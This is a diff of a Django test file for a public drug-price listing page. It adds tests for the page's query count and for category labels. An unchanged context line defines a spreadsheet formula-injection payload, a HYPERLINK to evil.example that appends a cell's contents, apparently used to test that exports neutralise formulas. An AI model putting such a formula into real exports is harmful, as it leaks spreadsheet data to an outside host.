@@ -65,6 +65,24 @@ def test_the_public_page_searches_and_exports(world, product, list_product, clie
     assert [(row[0], Decimal(str(row[8]))) for row in rows] == [(product.code, Decimal("12.6"))]
 
 
+def test_the_public_page_reads_a_page_of_listings_without_a_query_a_row(
+    world, product, list_product, client, django_assert_max_num_queries
+):
+    """信息公开: every column the page shows comes with its listings (only those are read: bench/search.py)."""
+    # given three listed products of two manufacturers
+    list_product(product, "12.60")
+    for price in ("20.00", "30.00"):
+        list_product(ProductFactory(manufacturer=world.manufacturer, trade_name="立普妥"), price)
+    client.get(reverse("public:public-list"))  # the session, caches
+    # when a visitor opens the page
+    with django_assert_max_num_queries(4) as queries:  # count, page, national lowest, manufacturers
+        page = client.get(reverse("public:public-list")).content.decode()
+    # then each row shows its product, pack, maker, category, prices
+    assert len(queries) == 4, [query["sql"][:80] for query in queries]
+    assert product.code in page and product.pack_description in page and "¥12.60" in page and "¥1.80" in page
+    assert "立普妥" in page and world.manufacturer.name in page and str(ListingCategory.INNOVATIVE.label) in page
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 
@@ -100,3 +118,11 @@ def test_the_export_stops_at_its_row_limit(world, product, list_product, client,
     export = client.get(reverse("public:public-export"))
     sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
     assert len(list(sheet.iter_rows(min_row=2))) == 2
+
+
+@pytest.mark.parametrize("category", [*ListingCategory.values, "unknown"])
+def test_a_listings_category_label_is_djangos_display(category):
+    from listings.models import Listing
+
+    listing = Listing(category=category)
+    assert str(listing.category_label) == str(listing.get_category_display())
